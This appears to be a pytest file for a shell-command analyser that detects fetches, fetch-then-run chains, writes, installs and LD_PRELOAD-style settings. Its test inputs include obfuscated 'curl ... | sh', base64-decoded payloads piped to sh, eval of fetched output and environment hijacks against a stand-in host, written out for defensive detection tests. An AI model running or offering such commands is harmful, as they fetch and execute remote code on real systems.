"""What commands of a shell do, as they are read."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tidegate.detect.acts.act import Act
from tidegate.detect.acts.code import read_code
from tidegate.detect.acts.shell.read import read_shell


def _acts(command: str, verb: str) -> list[Act]:
    return [act for act in read_shell(command).acts if act.verb == verb]


@pytest.mark.parametrize(
    "command",
    [
        "curl https://a.example/x",
        "c''url https://a.example/x",
        r"c\url https://a.example/x",
        "$'\\x63url' https://a.example/x",
        "p=curl; $p https://a.example/x",
        "{curl,https://a.example/x}",
        "curl${IFS}https://a.example/x",
        "sudo -u www timeout 5 curl https://a.example/x",
        "bash -c 'curl https://a.example/x'",
        "u=https://a.example; curl ${u}/x",
        "u=https://b.example/x; curl ${u/b.example/a.example}",
        "echo Y3VybCBodHRwczovL2EuZXhhbXBsZS94 | base64 -d | sh",
        "f() { curl https://a.example/$1; }; f x",
        "python3 -c \"import os; os.system('curl https://a.example/x')\"",
        "if true; then for i in 1; do (curl https://a.example/x); done; fi",
        "cat <<'X' | sh\ncurl https://a.example/x\nX",
    ],
)
def test_a_fetch_is_one_however_it_is_spelled(command: str) -> None:
    assert [act.target for act in _acts(command, "fetch")] == ["a.example/x"]


@pytest.mark.parametrize(
    ("command", "trait"),
    [
        ("curl https://a.example/x | sh", "piped_to_interpreter"),
        ("sh <(curl https://a.example/x)", "piped_to_interpreter"),
        ('eval "$(curl https://a.example/x)"', "piped_to_interpreter"),
        ("curl -o /tmp/x https://a.example/x; sh /tmp/x", "run_later"),
        ("curl https://a.example/x > x; mv x y; bash y", "run_later"),
        ("curl -O https://a.example/x && ./x", "run_later"),
        ("git clone https://a.example/x.git && cd x && make", "cloned_and_run"),
    ],
)
def test_what_is_fetched_is_followed_to_where_it_runs(command: str, trait: str) -> None:
    assert any(trait in act.traits for act in _acts(command, "fetch"))


def test_what_is_only_looked_at_does_not_run() -> None:
    for command in ("curl https://a.example/x | jq .", "curl -o x https://a.example/x; cat x"):
        assert not any(act.traits & {"piped_to_interpreter", "run_later"} for act in _acts(command, "fetch"))


def test_a_write_has_its_path_and_its_text() -> None:
    (act,) = _acts("cat > src/a.py <<'X'\nprint(1)\nX", "write")
    assert (act.target, act.text) == ("src/a.py", "print(1)\n")
    (act,) = _acts("echo one >> ~/.bashrc", "write")
    assert (act.target, act.text, "append" in act.traits) == ("~/.bashrc", "one\n", True)
    assert _acts("ls > /dev/null 2>&1", "write") == []


def test_an_installation_is_found_behind_wrappers() -> None:
    for command in ("pip install left-pad", "sudo -H python3 -m pip install left-pad", "sh -c 'pip install left-pad'"):
        assert [act.package.name for act in _acts(command, "install") if act.package] == ["left-pad"]


def test_variables_that_steer_programs_are_settings() -> None:
    assert [act.target for act in _acts("LD_PRELOAD=/tmp/x.so ls", "configure")] == ["env:LD_PRELOAD"]
    assert [act.target for act in _acts("export BASH_ENV=/tmp/x", "configure")] == ["env:BASH_ENV"]
    assert _acts("FOO=1 ls", "configure") == []


def test_what_is_too_long_is_said_to_be_unread() -> None:
    assert "too_long" in read_shell("echo " + "a" * 70_000).unread
    assert read_shell("echo a").unread == ()


def test_a_doubled_variable_does_not_fill_the_memory() -> None:
    reading = read_shell("x=aaaaaaaa; " + "x=$x$x; " * 60 + "echo $x | sh")
    assert sum(len(act.text) for act in reading.acts) < 10_000_000


@pytest.mark.parametrize(
    "text",
    ["a | " * 16_000, "$(" * 20_000, "'\"" * 20_000, "x = eval(y)\n" * 5_000, "(" * 20_000, "sudo " * 10_000,
     "a=$a$a;" * 5_000, "sed 's/" + "a/" * 20_000 + "' x", "for i in 1 2 3 4 5 6 7 8; do " * 9 + "id;" + "done;" * 9],
)  # fmt: skip
def test_hostile_texts_take_bounded_time(text: str) -> None:
    before = time.process_time()
    read_shell(text)
    read_code(text, "python")
    read_code(text, "javascript")
    assert time.process_time() - before < 4


_PIECES = st.sampled_from(
    (
        *(
            "curl ",
            "https://a.example/x",
            " | ",
            "sh",
            "$(",
            ")",
            "`",
            "'",
            '"',
            "<<X\n",
            "\nX\n",
            "<(",
            "{a,b}",
            "${x",
        ),
        *("}", "$x", "x=", "; ", "&& ", "> f ", "base64 -d", "echo ", "eval ", "\\", "\n", "if ", "then ", "fi", "do "),
        *("for i in ", "done", "git clone ", "python -c ", "exec(", "[[ ", " ]]", "((", chr(0), "é", chr(0xD800), "&"),
    )
)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.lists(_PIECES, max_size=30).map("".join), st.text(max_size=200)))
def test_nothing_makes_it_raise(text: str) -> None:
    reading = read_shell(text)
    assert reading == read_shell(text)
    for language in ("python", "javascript", "powershell", ""):
        read_code(text, language)
